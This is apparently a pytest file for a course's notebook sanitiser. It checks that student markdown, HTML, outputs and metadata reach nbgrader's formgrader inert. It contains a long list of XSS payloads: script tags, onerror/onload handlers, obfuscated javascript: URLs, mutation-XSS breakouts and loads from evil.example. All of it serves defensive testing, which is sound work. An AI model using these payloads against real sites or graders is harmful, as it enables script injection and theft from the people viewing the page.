"""What ``mlmcourse grade`` writes for nbgrader's formgrader is inert.

Each hostile markdown or HTML snippet is neutralised, then rendered by the same renderer
formgrader uses (nbconvert's mistune filter), and the rendering is checked by a parser written
here (independent of the module's own check): no script, frame, object, form, style, image,
SVG, meta or base element, no event handler, no URL outside http/https/mailto/relative. Honest
markdown keeps its headings, emphasis, lists, code, maths, tables and links. The whole notebook
is also exported with formgrader's own template and checked the same way.
"""

from __future__ import annotations

import copy
import html
import html.parser
import json
import re
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from mlmcourse.grading.outputs.sanitise import (
    MAX_MARKDOWN,
    MAX_SOURCE,
    MAX_TEXT,
    neutralise_notebook,
    sanitise_html,
    sanitise_markdown,
)

ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
               "input", "button", "textarea", "select", "style", "link", "meta", "base", "svg",
               "math", "img", "image", "video", "audio", "source", "track", "picture", "canvas",
               "template", "portal", "xml", "import"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "background",
             "poster", "srcset", "ping", "lowsrc", "dynsrc", "codebase", "cite"}
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Active(html.parser.HTMLParser):
    """Everything in an HTML fragment that could run or fetch something."""

    def __init__(self, allowed_tags: frozenset[str] = frozenset()) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_tags = allowed_tags
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS and tag not in self.allowed_tags:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name == "style" and re.search(r"expression|url\(|javascript|@import", value, re.I):
                self.found.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRS or name == "style" and "url(" in value:
                plain = re.sub(r"[\x00-\x20\x7f-\x9f\\]", "", html.unescape(value)).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", plain)
                if scheme and scheme.group(1) not in SAFE_SCHEMES:
                    self.found.append(f"<{tag} {name}={value!r}>")
                if tag == "a" and name == "href" and plain.startswith("/api/"):
                    pass  # a link the instructor would have to click: navigation, not a fetch

    handle_startendtag = handle_starttag


def active(fragment: str, allowed_tags: frozenset[str] = frozenset()) -> list[str]:
    parser = _Active(allowed_tags)
    parser.feed(fragment)
    parser.close()
    return parser.found


def rendered(markdown: str) -> str:
    """What formgrader's page contains for a markdown cell."""
    return markdown2html_mistune(markdown)


HOSTILE = {
    "script": "<script>window.__pwned = 1</script>",
    "script_uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_split": "<scr<script>ipt>alert(1)</script>",
    "img_onerror": "<img src=x onerror=\"window.__pwned=1\">",
    "img_onerror_noquote": "<img/src=x/onerror=alert(1)>",
    "svg_onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_animate": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
                   "<text y=20>x</text></a></svg>",
    "math_mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "body_onload": "<body onload=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "a_javascript": "<a href=\"javascript:alert(1)\">click</a>",
    "a_javascript_entity": "<a href=\"java&#x73;cript:alert(1)\">click</a>",
    "a_javascript_tab": "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "a_javascript_spaces": "<a href=\"  javascript:alert(1)\">click</a>",
    "a_vbscript": "<a href=\"vbscript:msgbox(1)\">click</a>",
    "a_data": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "md_javascript": "[click](javascript:alert(1))",
    "md_javascript_entity": "[click](java&#x73;cript:alert(1))",
    "md_javascript_double_entity": "[click](java&amp;#x73;cript:alert(1))",
    "md_javascript_colon_entity": "[click](javascript&#58;alert(1))",
    "md_javascript_colon_double": "[click](javascript&amp;colon;alert(1))",
    "md_javascript_angle": "[click](<javascript:alert(1)>)",
    "md_javascript_spaces": "[click](   javascript:alert(1) \"t\")",
    "md_javascript_upper": "[click](JaVaScRiPt:alert(1))",
    "md_javascript_backslash": "[click](java\\script:alert(1))",
    "md_javascript_newline": "[click](\njavascript:alert(1))",
    "md_reference": "[click][r]\n\n[r]: javascript:alert(1)",
    "md_reference_angle": "[click][r]\n\n[r]:\n  <javascript:alert(1)>",
    "md_autolink": "<javascript:alert(1)>",
    "md_data": "[click](data:text/html,<script>alert(1)</script>)",
    "md_image": "![x](/api/contents/source/softmax/softmax.ipynb)",
    "md_image_javascript": "![x](javascript:alert(1))",
    "md_image_reference": "![x][r]\n\n[r]: /api/contents/source",
    "md_attachment": "![x](attachment:evil.svg)",
    "iframe": "<iframe src=\"/api/contents/source\"></iframe>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "object": "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "embed": "<embed src=\"javascript:alert(1)\">",
    "form": "<form action=\"/formgrader/api/grade/1\" method=post><button>go</button></form>",
    "formaction": "<button formaction=javascript:alert(1)>go</button>",
    "style_tag": "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "style_attr": "<p style=\"background:url(javascript:alert(1));"
                  "width:expression(alert(1))\">x</p>",
    "meta_refresh": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "base": "<base href=\"http://evil.example/\">",
    "link_import": "<link rel=import href=\"http://evil.example/x.html\">",
    "template": "<template><script>alert(1)</script></template>",
    "noscript_breakout": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "comment_breakout": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "textarea_breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "mermaid": "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "html_in_table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "html_in_heading": "# <svg/onload=alert(1)>",
    "html_in_math": "$<img src=x onerror=alert(1)>$",
    "html_in_code_fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "clobbering_id": "<a id=\"test_softmax\" name=\"submission_id\" class=\"score\">x</a>",
    "event_on_allowed": "<b onmouseover=alert(1)>bold</b>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "unicode_tricks": "<a href=\"\u2028javascript:alert(1)\">x</a>[y](\u00a0javascript:alert(1))",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markdown_renders_inert(name: str) -> None:
    out = sanitise_markdown(HOSTILE[name])
    page = rendered(out)
    assert active(page) == [], f"{name}: {out!r} renders as {page!r}"


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_html_is_inert(name: str) -> None:
    out = sanitise_html(HOSTILE[name])
    assert active(out) == [], f"{name}: {out!r}"
    assert not re.search(r"<(script|iframe|object|embed|form|style|meta|base|svg|img)\b", out,
                         re.I)


def test_markdown_syntax_never_reaches_a_dangerous_url() -> None:
    for text in ["[x](javascript:alert(1))", "[x](java&#x73;cript:alert(1))",
                 "[x](java&amp;#x73;cript:alert(1))", "[x][r]\n\n[r]: javascript:alert(1)"]:
        page = rendered(sanitise_markdown(text))
        assert "javascript" not in page.lower(), page
    # the unsanitised renderer would have produced one: the test's parser does see them
    assert active(rendered("[x](javascript:alert(1))"))
    assert active(rendered("<img src=x onerror=alert(1)>"))


def test_images_are_never_fetched() -> None:
    for text in ["![x](/api/contents/source/softmax/softmax.ipynb)", "![x](https://e.org/a.png)",
                 "<img src=\"/api/contents/x\">", "![x][r]\n\n[r]: /api/contents/source"]:
        assert "<img" not in rendered(sanitise_markdown(text))


HONEST = """# Why subtract the maximum?

Softmax is *invariant* to adding a constant: **softmax**(z) = softmax(z - c).

1. exp of a large logit overflows;
2. subtracting `max(z)` keeps every exponent $\\le 0$, so $e^{z_i - m} \\in (0, 1]$.

- first
- second

$$p_i = \\frac{e^{z_i}}{\\sum_j e^{z_j}}$$

```python
shifted = logits - logits.max(dim=-1, keepdim=True).values
```

| logit | prob |
|-------|------|
| 1.0   | 0.09 |
| 3.0   | 0.67 |

> the log-sum-exp trick

See [the docs](https://pytorch.org/docs/stable/generated/torch.softmax.html) or
[section 2](#softmax) and mail <a href="mailto:ta@example.org">the TA</a>.
Also $x<y$ and 3 > 2 & 1 < 2.
"""


def test_honest_markdown_survives() -> None:
    out = sanitise_markdown(HONEST)
    page = rendered(out)
    assert active(page) == []
    for fragment in ["<h1", "Why subtract the maximum?", "<em>invariant</em>",
                     "<strong>softmax</strong>", "<ol>", "<ul>", "<li>first</li>",
                     "<code>max(z)</code>", "$\\le 0$",
                     "$$p_i = \\frac{e^{z_i}}{\\sum_j e^{z_j}}$$",
                     "<table>", "<th>logit</th>", "<td>0.67</td>", "<blockquote>",
                     'href="https://pytorch.org/docs/stable/generated/torch.softmax.html"',
                     'href="#softmax"', 'href="mailto:ta@example.org"']:
        assert fragment in page, f"{fragment!r} lost: {out!r} -> {page!r}"
    text = html.unescape(re.sub(r"<[^>]*>", "", page))
    assert "3 > 2 & 1 < 2" in text
    assert "shifted = logits - logits.max(dim=-1, keepdim=True).values" in text
    assert "x \\lt y" in text  # maths keeps its meaning for MathJax


FRAGMENTS = ["<", ">", "</", "/>", "script", "img", "svg", "a", "b", "iframe", "style", " src=x",
             " onerror=alert(1)", " onload=", " href=", "javascript:", "java", "script:",
             "data:text/html,", "vbscript:", "&#x73;", "&#58;", "&amp;", "&colon;", "&#x09;",
             "&lt;", "[x](", "](", ")", "![", "[r]", "]:", "<", "\"", "'", "$", "`", "```", "\n",
             " ", "\t", "\\", "<!--", "-->", "=", "(", "alert(1)", "~~~", "|", "#", "*", "mermaid",
             "<details open ontoggle=", "<math>", "<![CDATA[", "\ud800", "\x00"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_any_mix_of_hostile_fragments_renders_inert(text: str) -> None:
    out = sanitise_markdown(text)
    assert active(rendered(out)) == [], (text, out)
    assert active(sanitise_html(text)) == [], text


def test_prose_with_angle_brackets_stays_readable() -> None:
    page = rendered(sanitise_markdown("if a<b and q>r, then p<q; I typed <script>x</script>."))
    assert active(page) == []
    assert html.unescape(re.sub(r"<[^>]*>", "", page)).strip() == (
        "if a<b and q>r, then p<q; I typed .")
    page = rendered(sanitise_markdown("<b onclick=alert(1)>bold?</b> <i>yes</i>"))
    assert active(page) == [] and "<i>yes</i>" in page
    assert "&lt;b onclick=alert(1)&gt;bold?" in page  # shown as the text it was


def test_plain_text_answer_is_unchanged() -> None:
    answer = "Subtracting the maximum avoids overflow in exp: e^1000 is inf in float32."
    assert sanitise_markdown(answer) == answer


def test_what_could_not_be_made_safe_is_shown_literally() -> None:
    out = sanitise_markdown("```mermaid\ngraph TD; A-->B\n```")
    page = rendered(out)
    assert "mermaid" not in re.findall(r"<[^>]*>", page).__str__()
    assert "graph TD; A--&gt;B" in page


# --- the whole notebook ---------------------------------------------------------------------


def _nb(cells: list[dict], **metadata: object) -> dict:
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name":
            "Python 3", "language": "python"}, "language_info": {"name": "python", "version":
            "3.11.7", "mimetype": "text/x-python", "pygments_lexer": "ipython3"}, **metadata},
            "nbformat": 4, "nbformat_minor": 5}


def _md(source: str, cell_id: str = "md", **extra: object) -> dict:
    return {"cell_type": "markdown", "id": cell_id, "metadata": {}, "source": source, **extra}


def _code(outputs: list[dict], cell_id: str = "code") -> dict:
    return {"cell_type": "code", "id": cell_id, "metadata": {}, "source": "x = 1",
            "execution_count": 3, "outputs": outputs}


def _display(data: dict, kind: str = "display_data") -> dict:
    out = {"output_type": kind, "data": data, "metadata": {"text/html": {"isolated": True}}}
    if kind == "execute_result":
        out["execution_count"] = 3
    return out


PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
       "AAAABJRU5ErkJggg==")


def test_outputs_keep_only_plain_text_and_bitmaps() -> None:
    nb = _nb([_code([
        _display({"text/html": "<script>window.__pwned=1</script>", "text/plain": "<HTML>"}),
        _display({"application/javascript": "window.__pwned=1", "text/plain": "<JS>"},
                 "execute_result"),
        _display({"image/svg+xml": "<svg onload=alert(1)/>"}),
        _display({"text/markdown": "[x](javascript:alert(1))", "text/latex": "$x$"}),
        _display({"application/vnd.jupyter.widget-view+json": {"model_id": "abc",
                  "version_major": 2, "version_minor": 0}, "text/plain": "IntSlider(value=1)"}),
        _display({"image/png": PNG, "text/plain": "<Figure>"}),
        _display({"image/png": '"><img src=x onerror=alert(1)>'}),
        _display({"image/jpeg": PNG}),  # valid base64, not a JPEG
        {"output_type": "stream", "name": "stdout", "text": "<b>hi</b>\n"},
        {"output_type": "stream", "name": "<script>", "text": ["a", "b"]},
        {"output_type": "error", "ename": "ValueError", "evalue": "<script>alert(1)</script>",
         "traceback": ["\x1b[31mValueError\x1b[0m: <script>"]},
        {"output_type": "update_display_data", "data": {"text/html": "<script></script>"}},
        "not an output",
    ])])
    out = neutralise_notebook(nb)["cells"][0]["outputs"]
    mimes = [sorted(o.get("data", {})) for o in out]
    assert mimes == [["text/plain"], ["text/plain"], ["text/plain"], ["image/png", "text/plain"],
                     [], [], []]
    assert [o["output_type"] for o in out] == ["display_data", "execute_result", "display_data",
                                               "display_data", "stream", "stream", "error"]
    assert out[1]["execution_count"] == 3
    assert all(o.get("metadata", {}) == {} for o in out)
    assert out[5]["name"] == "stdout" and out[5]["text"] == "ab"
    assert out[6]["evalue"] == "<script>alert(1)</script>"  # nbconvert escapes error text


def test_widget_state_attachments_and_metadata_are_dropped() -> None:
    cell = _md("![x](attachment:a.svg) hi", attachments={"a.svg": {"image/svg+xml":
               "PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg=="}})
    cell["metadata"] = {"nbgrader": {"grade_id": "why", "grade": True, "solution": True,
                                     "locked": False, "points": 1, "schema_version": 3,
                                     "cell_type": "markdown", "evil": "<script>"},
                        "tags": ["<script>"], "jupyter": {"source_hidden": True},
                        "attachments": "x"}
    nb = _nb([cell], widgets={"application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "HTMLModel", "state": {"value": "<script></script>"}}}}},
        title="<script>alert(1)</script>", authors=[{"name": "<img src=x onerror=1>"}])
    out = neutralise_notebook(nb)
    assert set(out["metadata"]) == {"kernelspec", "language_info"}
    assert out["metadata"]["language_info"]["mimetype"] == "text/x-python"
    (md,) = out["cells"]
    assert "attachments" not in md
    assert md["metadata"] == {"nbgrader": {"grade_id": "why", "grade": True, "solution": True,
                                           "locked": False, "points": 1, "schema_version": 3,
                                           "cell_type": "markdown"}}
    assert "<img" not in rendered(md["source"])


def test_unsafe_nbgrader_ids_and_cell_ids_do_not_reach_the_page() -> None:
    bad = _md("answer", cell_id="\"><script>alert(1)</script>")
    bad["metadata"] = {"nbgrader": {"grade_id": "x\"><script>alert(1)</script>", "grade": True,
                                    "solution": True, "points": "<b>1</b>"}}
    dup = _md("again", cell_id="md")
    out = neutralise_notebook(_nb([_md("first"), bad, dup]))
    ids = [c["id"] for c in out["cells"]]
    assert len(set(ids)) == 3 and all(re.fullmatch(r"[A-Za-z0-9_-]+", i) for i in ids)
    assert out["cells"][1]["metadata"] == {}


def test_headings_cannot_take_the_id_of_a_score_box() -> None:
    """formgrader's script finds a grade's boxes with ``$("#" + grade_id)``: a heading anchor
    with that id placed earlier would capture them."""
    why = _md("answer", "why-cell")
    why["metadata"] = {"nbgrader": {"grade_id": "why", "grade": True, "solution": True,
                                    "points": 1, "schema_version": 3}}
    cells = [_md("# why\n\n## why-comment\n", "a"), _md("# why_extra_credit", "b"),
             _md("# notebook-container", "c"), _md("# Why\n\nfine", "d"), why]
    out = neutralise_notebook(_nb(cells))
    ids = set()
    for cell in out["cells"]:
        ids |= set(re.findall(r'id="([^"]*)"', rendered(cell["source"])))
    assert ids & {"why", "why-comment", "why_extra_credit", "notebook-container"} == set(), ids
    assert "Why" in ids  # a heading that takes no one's id keeps its anchor
    assert "# why" in out["cells"][0]["source"]  # shown as the text it was


def test_raw_cells_and_unknown_cell_types_are_sanitised() -> None:
    raw = {"cell_type": "raw", "id": "r", "metadata": {"raw_mimetype": "text/html",
           "format": "text/html"}, "source": "<script>window.__pwned=1</script><b>ok</b>"}
    odd = {"cell_type": "<script>", "id": "o", "metadata": {}, "source": "<img src=x onerror=1>"}
    out = neutralise_notebook(_nb([raw, odd, "junk"]))
    assert [c["cell_type"] for c in out["cells"]] == ["raw", "raw"]
    assert out["cells"][0] == {"cell_type": "raw", "id": "r", "metadata": {}, "source": "<b>ok</b>"}
    assert out["cells"][1]["source"] == ""


def test_strings_are_bounded_and_well_formed() -> None:
    huge = "a" * (MAX_SOURCE + 5000)
    nb = _nb([_md("bad \ud800 surrogate \udfff and \x00 nul"), _md(huge, "big"),
              _code([{"output_type": "stream", "name": "stdout", "text": "x" * (MAX_TEXT * 2)},
                     _display({"text/plain": "\udc80" * 3})])])
    out = neutralise_notebook(nb)
    json.dumps(out).encode("utf-8")  # no lone surrogate left
    json.dumps(out, ensure_ascii=False).encode("utf-8")
    assert "\ufffd" in out["cells"][0]["source"] and "\x00" not in out["cells"][0]["source"]
    assert len(out["cells"][1]["source"]) < MAX_MARKDOWN + 100
    assert len(out["cells"][2]["outputs"][0]["text"]) < MAX_TEXT + 100
    assert out["cells"][2]["outputs"][1]["data"]["text/plain"] == "\ufffd" * 3
    code = _code([])
    code["source"] = huge
    assert len(neutralise_notebook(_nb([code]))["cells"][0]["source"]) < MAX_SOURCE + 100


PATHOLOGICAL = {
    "attributes": "<a" + " x" * 50000,
    "many_tags": "<b>" * 33000,
    "open_links": "[x](" * 25000,
    "images": "![" * 50000,
    "dollars": "$$a" * 33000,
    "less_than": "<" * 100000,
    "nested": "<details>" * 10000,
    "quotes": '<a title="' * 10000,
}


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_huge_hostile_cells_are_neutralised_quickly(name: str) -> None:
    """A student cannot make grading (or formgrader's page) slow with one huge cell."""
    started = time.monotonic()
    out = neutralise_notebook(_nb([_md(PATHOLOGICAL[name])]))
    assert time.monotonic() - started < 10  # well under 1 s on an idle machine
    assert active(rendered(out["cells"][0]["source"])) == []


def test_input_is_not_modified_and_code_and_grading_metadata_survive() -> None:
    sys.path.insert(0, str(Path(__file__).parents[1] / "hostile"))
    import corpus

    nb = corpus.solved(corpus.source_notebook())
    before = copy.deepcopy(nb)
    out = neutralise_notebook(nb)
    assert nb == before
    assert [c["cell_type"] for c in out["cells"]] == [c["cell_type"] for c in nb["cells"]]
    for new, old in zip(out["cells"], nb["cells"], strict=True):
        assert new["id"] == old["id"]
        assert new["metadata"].get("nbgrader") == old["metadata"].get("nbgrader")
        if old["cell_type"] == "code":
            assert new["source"] == old["source"]
    import nbformat

    nbformat.validate(nbformat.from_dict(out))


def test_formgraders_own_template_shows_no_student_script() -> None:
    """The notebook exported exactly as formgrader's submission page does it."""
    import nbformat
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    cells = [_md(text, f"h{i}") for i, text in enumerate(HOSTILE.values())]
    cells.append({"cell_type": "raw", "id": "raw", "metadata": {}, "source": HOSTILE["script"]})
    cells.append(_code([_display({"text/html": "<script>STUDENT()</script>",
                                  "application/javascript": "STUDENT()", "text/plain": "p"})]))
    nb = _nb(cells, widgets={"application/vnd.jupyter.widget-state+json": {"state": {}}})
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "a", "notebook_id": "n", "submission_id": "s", "index": 0,
                 "total": 1, "base_url": "", "student": "st", "last_name": None,
                 "first_name": None, "notebook_path": "x"}

    def export(notebook: dict) -> str:
        body, _ = HTMLExporter(config=config).from_notebook_node(
            nbformat.from_dict(copy.deepcopy(notebook)), resources=dict(resources))
        return body[body.index('id="notebook-container"'):]  # the notebook, not the page chrome

    # unsanitised, a reference to a missing attachment stops the export (page error 500)
    live = {**nb, "cells": [c for c in nb["cells"] if "attachment:" not in c["source"]]}
    raw_page = export(live)
    assert active(raw_page, frozenset({"input", "textarea"})), "the attack must be live unsanitised"
    page = export(neutralise_notebook(nb))
    assert active(page, frozenset({"input", "textarea"})) == []
    assert "STUDENT()" not in page and "widget-state" not in page


def test_the_courses_own_markdown_is_unchanged() -> None:
    """Every markdown cell of the real exercises (instructor text, restored into the autograded
    notebook) reaches formgrader as written: the allowlist costs honest content nothing."""
    root = Path(__file__).resolve().parents[2] / "autograder" / "source"
    sources = sorted(root.glob("*/*.ipynb"))
    assert sources
    for path in sources:
        nb = json.loads(path.read_text())
        for cell in nb["cells"]:
            if cell["cell_type"] == "markdown":
                text = "".join(cell["source"])
                assert sanitise_markdown(text) == text, (path.name, cell.get("id"))


def test_neutralising_twice_is_harmless() -> None:
    """The engine may neutralise before the gradebook writer does: a second pass keeps honest
    content as it was and hostile content inert."""
    nb = _nb([_md(HONEST, "honest")] + [_md(text, f"h{i}") for i, text in
                                        enumerate(HOSTILE.values())])
    once = neutralise_notebook(nb)
    twice = neutralise_notebook(once)
    assert twice["cells"][0] == once["cells"][0]
    assert twice["metadata"] == once["metadata"]
    for cell in twice["cells"]:
        assert active(rendered(cell["source"])) == [], cell["source"]
